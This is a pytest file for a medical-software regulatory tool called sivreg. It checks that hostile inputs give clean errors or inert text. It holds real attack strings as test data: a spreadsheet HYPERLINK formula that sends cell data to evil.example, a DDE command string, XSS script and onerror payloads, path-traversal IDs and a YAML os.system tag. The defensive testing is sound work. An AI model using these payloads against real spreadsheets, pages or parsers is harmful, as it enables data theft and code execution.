"""Hostile input: files built to hurt (alias bombs, deep nesting, huge files, impossible
dates, values of the wrong shape, terminal escapes, formula injection, odd file names).
Each gives a clear error naming the file and the field (or is shown as plain text), never a
traceback, a hang or an exhausted memory; a batch goes on past the bad project."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile

import pytest

import sivreg
from sivreg.errors import InputError
from sivreg.io import loads

GOOD = "project: {id: p1, title: Test}\njurisdiction: NO\nanswers:\n  qual.is_software: yes\n"


def run_cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "sivreg.cli", *args], capture_output=True, text=True,
                          cwd=cwd, timeout=120)


def problems(text: str) -> list[str]:
    with pytest.raises(InputError) as exc:
        loads(text, source="hostile.yaml")
    return [str(p) for p in exc.value.problems]


# -- YAML built to exhaust the reader ------------------------------------------------------------
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi"))


@pytest.mark.parametrize("where", ["as_of: *i", "jurisdiction: *i", "answers: {mdr.other_rules: *i}",
                                   "project: {id: p, title: *i}"])
def test_alias_bomb_is_refused_before_it_expands(where):
    text = BOMB + ("project: {id: p, title: t}\n" if "project" not in where else "") + where + "\n"
    msgs = problems(text)
    assert len(msgs) == 1 and "aliases" in msgs[0] and msgs[0].startswith("hostile.yaml:")


def test_merge_keys_and_small_aliases_still_work():
    text = ("project: {id: p1, title: T}\nanswers: &a\n  qual.is_software: yes\n"
            "modules:\n  - {id: m1, title: M, answers: *a}\n")
    p = loads(text)
    assert p.modules[0].answers.get("qual.is_software") == "yes"


@pytest.mark.parametrize("depth", [60, 5000, 200_000])
def test_deep_nesting_is_an_input_error(depth):
    msgs = problems("project: " + "[" * depth + "]" * depth + "\n")
    assert "nested more than" in msgs[0]


def test_huge_file_is_refused_without_reading_it_all(tmp_path):
    f = tmp_path / "huge.yaml"
    with open(f, "w", encoding="utf-8") as fh:
        fh.write(GOOD)
        fh.write(("  # " + "y" * 200 + "\n") * 100_000)  # 20 MB of comments
    with pytest.raises(InputError, match="too large"):
        sivreg.load(f)
    r = run_cli("validate", str(f), "--lang", "en")
    assert r.returncode == 1 and "too large" in r.stderr and "Traceback" not in r.stderr


def test_an_endless_device_is_refused():
    r = run_cli("assess", "/dev/zero", "--lang", "en")
    assert r.returncode == 1 and "not a regular file but a device" in r.stderr and "internal error" not in r.stderr


def test_bom_crlf_and_tabs():
    assert loads("\ufeff" + GOOD).answers.get("qual.is_software") == "yes"
    assert loads(GOOD.replace("\n", "\r\n")).answers.get("qual.is_software") == "yes"
    msgs = problems("project:\n\tid: p\n")
    assert "hostile.yaml:2" in msgs[0] and "\\t" in msgs[0]


# -- values of the wrong shape -----------------------------------------------------------------------
@pytest.mark.parametrize("line, field", [
    ("scenario: [a]", "[scenario]"),
    ("organisation: {a: 1}", "[organisation]"),
    ("jurisdiction: [NO]", "[jurisdiction]"),
    ("schema: {x: 1}", "[schema]"),
    ("as_of: [2026-01-01]", "[as_of]"),
])
def test_a_list_or_mapping_where_a_name_belongs(line, field):
    msgs = problems("project: {id: p1, title: Test}\nanswers: {}\n" + line + "\n")
    assert len(msgs) == 1 and field in msgs[0] and "hostile.yaml:3" in msgs[0], msgs


@pytest.mark.parametrize("text, field", [
    (GOOD + "as_of: 2026-02-30\n", "[as_of]"),
    (GOOD + "  ci.planned_start: 2027-02-30\n", "[answers.ci.planned_start]"),
    (GOOD + "  ci.planned_start: 2027-13-01\n", "[answers.ci.planned_start]"),
])
def test_impossible_dates_are_refused_at_load(text, field, tmp_path):
    msgs = problems(text)
    assert field in msgs[0] and "real date" in msgs[0]
    f = tmp_path / "d.yaml"
    f.write_text(text, encoding="utf-8")
    r = run_cli("validate", str(f))
    assert r.returncode == 1 and field in r.stderr  # validate and assess agree


def test_a_long_value_is_cut_short_in_the_message():
    msgs = problems("project: {id: p1, title: T}\njurisdiction: " + "X" * 1000 + "\n")
    assert len(msgs[0]) < 300
    msgs = problems(GOOD + "  " + "q" * 1000 + ": yes\n")
    assert len(msgs[0]) < 400


@pytest.mark.parametrize("field, value, expect", [
    ("title", '"\\e[2J\\e[31mpwned"', "control character U+001B"),
    ("title", '"two\\nlines"', "line break"),
    ("owner", '"bell\\a"', "control character U+0007"),
    ("title", "x" * 301, "too long"),
    ("description", "x" * 20_001, "too long"),
])
def test_free_text_without_control_characters_or_megabytes(field, value, expect):
    text = f"project: {{id: p1, title: T, {field}: {value}}}\nanswers: {{}}\n" if field != "title" else \
        f"project: {{id: p1, title: {value}}}\nanswers: {{}}\n"
    msgs = problems(text)
    assert f"[project.{field}]" in msgs[0] and expect in msgs[0], msgs


def test_a_description_may_have_paragraphs():
    p = loads('project: {id: p1, title: T, description: "one\\n\\ntwo\\tthree"}\nanswers: {}\n')
    assert p.description == "one\n\ntwo\tthree"


def test_validate_lists_every_problem_with_file_line_and_field(tmp_path):
    f = tmp_path / "many.yaml"
    f.write_text("project: {id: '../x', title: [a]}\nas_of: 2026-02-30\nscenario: [a]\n"
                 "answers:\n  qual.is_software: maybe\n  ci.planned_start: 2026-02-30\n"
                 "modules:\n  - {id: m, title: A}\n  - {id: m}\n", encoding="utf-8")
    r = run_cli("validate", str(f), "--lang", "en")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    for needle in (":1 [project.id]", ":1 [project.title]", ":2 [as_of]", ":3 [scenario]",
                   ":5 [answers.qual.is_software]", ":6 [answers.ci.planned_start]", ":9 [modules[1].id]",
                   "[modules[1].title]"):
        assert f"{f}{needle}" in r.stderr or needle in r.stderr, (needle, r.stderr)
    assert "8 problems:" in r.stderr


# -- the command line ------------------------------------------------------------------------------
def test_unknown_scenario_is_the_options_error_not_the_files():
    r = run_cli("assess", "parameters/sepsis-icu.yaml", "--scenario", "nosuch", "--lang", "en", cwd=ROOT)
    assert r.returncode == 1 and "--scenario: found 'nosuch'; allowed:" in r.stderr
    assert "sepsis-icu.yaml" not in r.stderr
    r = run_cli("assess", "parameters/sepsis-icu.yaml", "--scenario", "nosuch", cwd=ROOT)
    assert r.returncode == 1 and "--scenario: fant 'nosuch'; tillatt:" in r.stderr
    r = run_cli("summary", "parameters", "--scenario", "nosuch", cwd=ROOT)
    assert r.returncode == 1 and "--scenario" in r.stderr


def test_summary_of_a_missing_or_empty_folder_is_an_error(tmp_path):
    r = run_cli("summary", str(tmp_path / "nope"), "--lang", "en")
    assert r.returncode == 1 and "no such folder" in r.stderr
    r = run_cli("summary", str(tmp_path))
    assert r.returncode == 1 and "ingen svarfiler" in r.stderr


@pytest.mark.parametrize("target", ["/dev/null", "folder", "binary"])
def test_assess_on_what_is_not_an_answers_file(tmp_path, target):
    if target == "folder":
        target = str(tmp_path)
    elif target == "binary":
        target = str(tmp_path / "x.yaml")
        (tmp_path / "x.yaml").write_bytes(bytes(range(256)) * 10)
    r = run_cli("assess", target)
    assert r.returncode == 1 and target in r.stderr and "Traceback" not in r.stderr
    assert "internal error" not in r.stderr


# -- the portfolio ---------------------------------------------------------------------------------
from portfolio_helpers import AS_OF, EXAMPLES  # noqa: E402
from sivreg.portfolio import run_portfolio  # noqa: E402
from sivreg.errors import SivregError  # noqa: E402

from conftest import ROOT  # noqa: E402

FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "owner": "+cmd|' /C calc'!A0",
            "description": "@SUM(1+1)"}


def _hostile_portfolio(folder):
    folder.mkdir()
    from dataclasses import replace
    base = sivreg.load(EXAMPLES / "ed-triage.yaml")
    (folder / "formula.yaml").write_text(sivreg.dump_project(replace(base, id="formula", **FORMULAS)),
                                         encoding="utf-8")
    (folder / "minus.yaml").write_text(sivreg.dump_project(
        replace(base, id="minus", title="-2+3", owner="<img src=x onerror=alert(1)>")), encoding="utf-8")
    (folder / "=1+2.yaml").write_text("project: [\n", encoding="utf-8")  # invalid: its name is shown
    return folder


def test_csv_and_xlsx_never_hold_a_formula(tmp_path):
    res = run_portfolio(_hostile_portfolio(tmp_path / "p"), tmp_path / "out", notebooks=False,
                        progress=False, as_of=AS_OF)
    assert res.exit_code == 1 and {e.status for e in res.entries} == {"assessed", "invalid"}
    text = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + FORMULAS["title"] in cells and "'-2+3" in cells and "'=1+2" in cells
    from openpyxl import load_workbook
    raw = zipfile.ZipFile(tmp_path / "out" / "summary.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw  # no formula cell anywhere
    ws = load_workbook(tmp_path / "out" / "summary.xlsx").active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert FORMULAS["title"] in values and FORMULAS["owner"] in values and "-2+3" in values  # exactly as typed
    html = (tmp_path / "out" / "summary.html").read_text(encoding="utf-8")
    assert "<img" not in html and "&lt;img src=x" in html


def test_output_folder_that_is_a_file_or_under_a_file(tmp_path):
    (tmp_path / "afile").write_text("x")
    for out in (tmp_path / "afile", tmp_path / "afile" / "sub"):
        with pytest.raises(SivregError, match="output folder|is a file"):
            run_portfolio(EXAMPLES, out, notebooks=False, progress=False, as_of=AS_OF)
        r = run_cli("portfolio", "run", str(EXAMPLES), "--out", str(out), "--no-notebooks")
        assert r.returncode == 1 and str(out) in r.stderr and "internal error" not in r.stderr


def test_a_file_name_that_is_not_utf8_does_not_stop_the_batch(tmp_path):
    src = tmp_path / "p"
    src.mkdir()
    good = (EXAMPLES / "ed-triage.yaml").read_bytes()
    (src / "ed-triage.yaml").write_bytes(good)
    import os
    with open(os.path.join(os.fsencode(src), b"latin1-\xe6\xf8\xe5.yaml"), "wb") as fh:
        fh.write(good.replace(b"id: ed-triage", b"id: other"))
    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF)
    status = sorted(e.status for e in res.entries)
    assert status == ["assessed", "invalid"] and res.exit_code == 1
    bad = [e for e in res.entries if e.status == "invalid"][0]
    assert "ikke UTF-8" in bad.error
    assert (tmp_path / "out" / "summary.html").is_file()


@pytest.mark.parametrize("pid", ["../../etc/passwd", "a b", "ünïcode", "..", ".hidden", "x/y", "con:"])
def test_project_ids_never_leave_the_output_folder(tmp_path, pid):
    src = tmp_path / "p"
    src.mkdir()
    (src / "x.yaml").write_text(f"project: {{id: {pid!r}, title: T}}\nanswers: {{}}\n".replace("'", '"'),
                                encoding="utf-8")
    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF)
    assert [e.status for e in res.entries] == ["invalid"] and "[project.id]" in res.entries[0].error
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "p"]


# -- the dashboard ---------------------------------------------------------------------------------
@pytest.mark.parametrize("content, expect", [
    (b"project: " + b"[" * 5000 + b"]" * 5000, "nøstet mer enn"),
    (BOMB.encode() + b"project: {id: x, title: y}\nas_of: *i\n", "henvisningene (*navn)"),
    (b"project: {id: x, title: y}\nscenario: [a]\nanswers: {}\n", "[scenario]"),
    (b"project: {id: x, title: y}\norganisation: {a: 1}\nanswers: {}\n", "fant en tabell"),
    (b"project: {id: x, title: y}\nas_of: 2026-02-30\nanswers: {}\n", "[as_of]"),
    (b"project: {id: x, title: y}\nanswers: {ci.planned_start: 2026-02-30}\n", "ci.planned_start"),
    (b"project: {id: x, title: \"a\\e[2Jb\"}\nanswers: {}\n", "U+001B"),
])
def test_dashboard_upload_of_a_hostile_file_keeps_the_answers(content, expect):
    from test_views_questionnaire import _upload, click
    from sivreg.views import Questionnaire
    q = Questionnaire(lang="nb", as_of="2026-11-26")
    click(q, "qual.is_software", "no")
    before = q.assessment.to_dict()
    _upload(q, "hostile.yaml", content)
    assert "sv-error" in q.upload_msg.value and expect in q.upload_msg.value, q.upload_msg.value
    assert q.answers == {"qual.is_software": "no"} and q.as_of == "2026-11-26"
    assert q.assessment.to_dict() == before and "sv-error" not in q.result.value


def test_dashboard_upload_shows_hostile_text_as_text():
    from test_views_questionnaire import _upload
    from sivreg.views import Questionnaire
    q = Questionnaire(lang="nb", as_of="2026-11-26")
    content = ("project: {id: x, title: '<script>alert(1)</script>', owner: '<img src=x onerror=alert(2)>',"
               " description: '</pre><b>d</b>'}\nanswers: {qual.is_software: yes}\n").encode()
    _upload(q, "<i>name</i>.yaml", content)
    assert "sv-ok" in q.upload_msg.value and "<i>" not in q.upload_msg.value
    assert q.title.value == "<script>alert(1)</script>"  # a text box shows it as typed
    for html in (q.result.value, q.report_html(), q.upload_msg.value):
        assert "<script" not in html and "<img" not in html and "<b>d" not in html


def test_dashboard_upload_that_hits_a_bug_keeps_the_answers(monkeypatch):
    from test_views_questionnaire import _upload, click
    from sivreg.views import Questionnaire, questionnaire
    q = Questionnaire(lang="nb", as_of="2026-11-26")
    click(q, "qual.is_software", "no")

    def broken(*a, **kw):
        raise RuntimeError("a bug")
    monkeypatch.setattr(questionnaire, "loads", broken)
    _upload(q, "ok.yaml", (EXAMPLES / "ed-triage.yaml").read_bytes())
    assert "sv-error" in q.upload_msg.value and "RuntimeError" in q.upload_msg.value
    assert "Traceback" not in q.upload_msg.value and q.answers == {"qual.is_software": "no"}


@pytest.mark.parametrize("bad", ["9999-12-31", "0001-01-01", "1899-12-31", "2200-01-01"])
def test_dates_outside_the_calendar_sivreg_can_count_in(bad, tmp_path):
    """Deadlines add and subtract days: 9999-12-31 used to end in an OverflowError."""
    r = run_cli("assess", "parameters/sepsis-icu.yaml", "--as-of", bad, cwd=ROOT)
    assert r.returncode == 2 and "between 1900-01-01 and 2199-12-31" in r.stderr
    text = (EXAMPLES / "sepsis-icu.yaml").read_text(encoding="utf-8")
    assert '"2027-09-01"' in text
    f = tmp_path / "far.yaml"
    f.write_text(text.replace('"2027-09-01"', f'"{bad}"'), encoding="utf-8")
    r = run_cli("assess", str(f), "--as-of", "2026-11-26")
    assert r.returncode == 1 and "[studies[1].answers.ci.planned_start]" in r.stderr
    assert "internal error" not in r.stderr
    from sivreg.views import Questionnaire
    q = Questionnaire(lang="en", as_of="2026-11-26")
    q.as_of_box.value = bad
    assert q.as_of == "2026-11-26" and "sv-error" in q.meta_error.value and "sv-error" not in q.result.value


# -- reports ---------------------------------------------------------------------------------------
HOSTILE_TEXT = "<script>alert(1)</script> **fet** [lenke](javascript:alert(1))\n# Forfalsket overskrift\n- falsk punkt"


def _in_house_project_with_text_answers():
    from dataclasses import replace
    from sivreg.model import Answers
    p = sivreg.load(EXAMPLES / "liver-segmentation-inhouse.yaml")
    ans = dict(p.answers.to_dict(), **{q: HOSTILE_TEXT for q in (
        "inhouse.device_name", "inhouse.intended_purpose", "inhouse.gspr_not_met_justification")})
    ans["inhouse.gspr_all_met"] = "no"
    return replace(p, answers=Answers.of(ans), description=HOSTILE_TEXT)


@pytest.mark.parametrize("lang", ["nb", "en"])
def test_text_answers_and_descriptions_are_inert_in_markdown(lang):
    from sivreg.render import to_markdown
    p = _in_house_project_with_text_answers()
    a = sivreg.assess(p, as_of="2026-11-26", lang=lang)
    steps = [s for o in a.to_dict()["outcomes"].values() for s in o["trace"]
             if s.get("question") == "inhouse.device_name"]
    assert steps, "the text answer is in the reasoning"
    md = to_markdown(a, lang)
    assert "<script>" not in md and "**fet**" not in md and "[lenke](" not in md
    lines = md.splitlines()
    assert not any(line.startswith(("# Forfalsket", "- falsk")) for line in lines)
    from sivreg.render.html import to_html
    html = to_html(a, lang, project=p)
    assert "<script>" not in html and "&lt;script&gt;" in html


# -- problems in the user's language -----------------------------------------------------------------
BAD = "project: {id: p1, title: [a]}\nas_of: 2026-02-30\ncolour: blue\nanswers:\n  qual.is_software: maybe\n"


def test_problems_in_bokmal_and_english_with_file_line_and_field(tmp_path):
    from sivreg.io import error_text
    with pytest.raises(InputError) as exc:
        loads(BAD, source="bad.yaml")
    nb, en = error_text(exc.value, "nb"), error_text(exc.value, "en")
    assert en == str(exc.value)  # the Python API keeps the English text
    for needle in ("bad.yaml:1 [project.title]: forventet tekst, fant en liste",
                   "bad.yaml:2 [as_of]: forventet en gyldig dato", "bad.yaml:3 [colour]: ukjent nøkkel",
                   "bad.yaml:5 [answers.qual.is_software]: fant 'maybe'; tillatt: yes, no, unknown"):
        assert needle in nb, nb
    assert "bad.yaml:3 [colour]: unknown key" in en
    f = tmp_path / "bad.yaml"
    f.write_text(BAD, encoding="utf-8")
    r = run_cli("validate", str(f))
    assert r.returncode == 1 and "4 problemer:" in r.stderr and "ukjent nøkkel" in r.stderr
    r = run_cli("validate", str(f), "--lang", "en")
    assert "4 problems:" in r.stderr and "unknown key" in r.stderr


def test_dashboard_and_portfolio_show_problems_in_their_language(tmp_path):
    from test_views_questionnaire import _upload
    from sivreg.views import Questionnaire
    for lang, needle in (("nb", "ukjent nøkkel"), ("en", "unknown key")):
        q = Questionnaire(lang=lang, as_of="2026-11-26")
        _upload(q, "bad.yaml", BAD.encode())
        assert needle in q.upload_msg.value
        f = q.field("ci.planned_start")  # a wrong answer typed in a box: told in the page's language
        f.text.value = "2026-02-30"
        assert ("gyldig dato" if lang == "nb" else "real date") in f.error.value
        assert "ci.planned_start" not in q.answers
    src = tmp_path / "p"
    src.mkdir()
    (src / "bad.yaml").write_text(BAD, encoding="utf-8")
    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF)
    assert "ukjent nøkkel" in res.entries[0].error
    assert "ukjent nøkkel" in (tmp_path / "out" / "summary.html").read_text(encoding="utf-8")


def test_dashboard_always_saves_a_file_it_can_load_again():
    """A title pasted from a spreadsheet (tabs, line breaks), control characters or a very
    long text must not give a saved file that the resume button then refuses (lost work)."""
    from sivreg.views import Questionnaire
    q = Questionnaire(lang="nb", as_of="2026-11-26")
    q.title.value = "Sepsis\tvarsling\r\nfra Excel\x07 " + "x" * 1000
    q.owner.value = "Intensiv\tavd.\x1b[31m"
    q.answer("qual.is_software", "yes")
    p = sivreg.loads(q.saved_yaml())
    assert p.title.startswith("Sepsis varsling fra Excel x") and len(p.title) == 300
    assert p.owner == "Intensiv avd.[31m" and p.answers.get("qual.is_software") == "yes"


@pytest.mark.parametrize("content", [bytes(range(128, 256)), b'{"cells": ', b"[1, 2]"])
def test_a_report_notebook_that_is_not_one_stops_the_run_once(tmp_path, content):
    nb = tmp_path / "report.ipynb"
    nb.write_bytes(content)
    with pytest.raises(SivregError, match="not a usable Jupyter notebook"):
        run_portfolio(EXAMPLES, tmp_path / "out", notebook=nb, progress=False, as_of=AS_OF)
    r = run_cli("portfolio", "run", str(EXAMPLES), "--out", str(tmp_path / "out"), "--notebook", str(nb))
    assert r.returncode == 1 and "Jupyter" in r.stderr and "intern" not in r.stderr


XSS = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def _hostile_everywhere(name: str):
    """An example project with hostile text in every free-text field it has."""
    from dataclasses import replace
    p = sivreg.load(EXAMPLES / name)
    parts = {k: tuple(replace(part, title=f"{XSS} {k}") for part in getattr(p, k)) for k in ("modules", "studies")}
    return replace(p, title=XSS, owner=XSS, description=XSS, **parts)


@pytest.mark.parametrize("name", ["ehr-renal-dosing.yaml", "sepsis-icu.yaml", "ed-triage.yaml"])
@pytest.mark.parametrize("lang", ["nb", "en"])
def test_hostile_text_in_every_field_is_shown_as_text(name, lang):
    from sivreg.render import to_markdown
    from sivreg.render.html import panel_html, to_html
    p = _hostile_everywhere(name)
    assert p.modules or p.studies
    a = sivreg.assess(sivreg.loads(sivreg.dump_project(p)), as_of="2026-11-26", lang=lang)
    for html in (to_html(a, lang, project=p), to_html(a, lang, fragment=True), panel_html(a, lang)):
        assert "<script" not in html and "<img" not in html and "&lt;script&gt;" in html
    md = to_markdown(a, lang)
    assert "<script" not in md and "<img" not in md


def test_ids_that_differ_only_in_case_are_one_id(tmp_path):
    """reports/Sepsis.html and reports/sepsis.html are one file on a Windows or macOS share."""
    src = tmp_path / "p"
    src.mkdir()
    text = (EXAMPLES / "ed-triage.yaml").read_text(encoding="utf-8")
    (src / "a.yaml").write_text(text, encoding="utf-8")
    (src / "b.yaml").write_text(text.replace("id: ed-triage", "id: ED-Triage"), encoding="utf-8")
    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF, lang="en")
    assert [e.status for e in res.entries] == ["invalid", "invalid"]  # neither wins by sort order
    assert "also used by" in res.entries[1].error and "a.yaml" in res.entries[1].error


@pytest.mark.parametrize("port", ["99999", "0", "-1", "http"])
def test_dashboard_port_out_of_range_is_refused(port):
    r = run_cli("dashboard", "--port", port, "--no-browser")
    assert r.returncode == 2 and "1 to 65535" in r.stderr and "Voila" not in r.stderr


def test_jobs_are_capped_at_the_number_of_notebooks(tmp_path, monkeypatch):
    from sivreg.portfolio import executors, run as run_mod
    asked = []
    real = executors.make_executor

    def spy(name, jobs=None, address=None):
        asked.append(jobs)
        return real("threads", jobs)
    monkeypatch.setattr(executors, "make_executor", spy)
    monkeypatch.setattr(run_mod, "execute", lambda task: {"ok": False, "error": "stub", "ipynb": None})
    src = tmp_path / "p"
    src.mkdir()
    (src / "a.yaml").write_text((EXAMPLES / "ed-triage.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    res = run_portfolio(src, tmp_path / "out", jobs=5000, executor="dask", progress=False, as_of=AS_OF)
    assert asked == [1] and [e.status for e in res.entries] == ["failed"]


def test_dashboard_set_up_with_a_bad_file_date_or_scenario_still_works(tmp_path):
    from sivreg.views import Questionnaire
    f = tmp_path / "bad.yaml"
    f.write_text("project: {id: x, title: [a]}\n", encoding="utf-8")
    q = Questionnaire.from_file(str(f), lang="nb", as_of="2026-11-26")
    assert "sv-error" in q.upload_msg.value and "[project.title]" in q.upload_msg.value
    assert q.assessment is not None and q.answers == {}
    q = Questionnaire(lang="en", as_of="2026-02-30", scenario="nosuch")
    assert "sv-error" in q.meta_error.value and "nosuch" in q.meta_error.value and "2026-02-30" in q.meta_error.value
    assert valid_date(q.as_of) and q.scenario is None and "sv-error" not in q.result.value
    q.answer("qual.is_software", "yes")
    assert q.assessment.as_of == q.as_of


from sivreg.io import valid_date  # noqa: E402


@pytest.mark.parametrize("line, expect", [
    ("answers: {ai.annex_iii: [[a], {b: 1}]}", "[answers.ai.annex_iii]: […], {…} not allowed"),
    ("answers: {mdr.r11a_subrule: {a: 1}}", "[answers.mdr.r11a_subrule]: found a mapping"),
    ("project: {id: p, title: !!binary aGVsbG8=}", "[project.title]: expected text, found bytes"),
    ("project: {id: p, title: !!python/object:os.system x}", "could not determine a constructor"),
    ("as_of: !!timestamp 2026-01-01", "[as_of]: expected a real date"),
])
def test_tags_and_nested_values_get_a_plain_message(line, expect):
    head = "" if line.startswith("project") else "project: {id: p, title: t}\n"
    msgs = problems(head + line + "\n")
    assert any(expect in m for m in msgs), msgs


@pytest.mark.parametrize("content", [b"not a database" * 100, b""])
def test_a_damaged_register_is_named_not_an_internal_error(tmp_path, content):
    out = tmp_path / "out"
    out.mkdir()
    (out / "register.sqlite").write_bytes(content)
    if content:
        with pytest.raises(SivregError, match="cannot be read as a register"):
            run_portfolio(EXAMPLES, out, notebooks=False, progress=False, as_of=AS_OF)
        for args in (["run", str(EXAMPLES), "--no-notebooks"], ["history"], ["diff", "1", "2"]):
            r = run_cli("portfolio", *args, "--out", str(out))
            assert r.returncode == 1 and "kan ikke leses som et register" in r.stderr, (args, r.stderr)
            assert "intern feil" not in r.stderr
        assert (out / "register.sqlite").read_bytes() == content  # never written over
    else:  # an empty file is a new, empty register
        assert run_portfolio(EXAMPLES, out, notebooks=False, progress=False, as_of=AS_OF).exit_code == 0
    r = run_cli("portfolio", "verify", "--out", str(out))
    assert r.returncode == (1 if content else 0) and "Traceback" not in r.stderr


def test_answers_as_a_list_names_its_line():
    msgs = problems("project: {id: p1, title: T}\n\nanswers: [a, b]\nmodules:\n  - {id: m, title: M,\n     answers: [x]}\n")
    assert "hostile.yaml:3 [answers]:" in msgs[0] and "hostile.yaml:6 [modules[0].answers]:" in msgs[1], msgs


def test_thousands_of_problems_are_cut_to_a_readable_list(tmp_path):
    text = "project: {id: p1, title: T}\nanswers:\n" + "".join(f"  q{i}.x: yes\n" for i in range(3000))
    with pytest.raises(InputError) as exc:
        loads(text, source="many.yaml")
    assert len(exc.value.problems) == 3000  # the API keeps them all
    from sivreg.io import error_text
    lines = error_text(exc.value, "en").splitlines()
    assert len(lines) == 51 and lines[-1] == "… and 2950 more problem(s)"
    f = tmp_path / "many.yaml"
    f.write_text(text, encoding="utf-8")
    r = run_cli("validate", str(f))
    assert r.returncode == 1 and "3000 problemer:" in r.stderr and "… og 2800 problem til" in r.stderr
    r = run_cli("validate", str(f), "--all")
    assert len(r.stderr.splitlines()) > 3000


@pytest.mark.parametrize("pid", ["CON", "nul.v2", "Com1", "lpt9", "abc."])
def test_ids_that_windows_cannot_store_are_refused_in_a_portfolio(tmp_path, pid):
    src = tmp_path / "p"
    src.mkdir()
    (src / "x.yaml").write_text((EXAMPLES / "ed-triage.yaml").read_text(encoding="utf-8")
                                .replace("id: ed-triage", f"id: {pid}"), encoding="utf-8")
    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF, lang="en")
    assert [e.status for e in res.entries] == ["invalid"] and "Windows" in res.entries[0].error
    assert not (tmp_path / "out" / "assessments").exists() or not any((tmp_path / "out" / "assessments").iterdir())
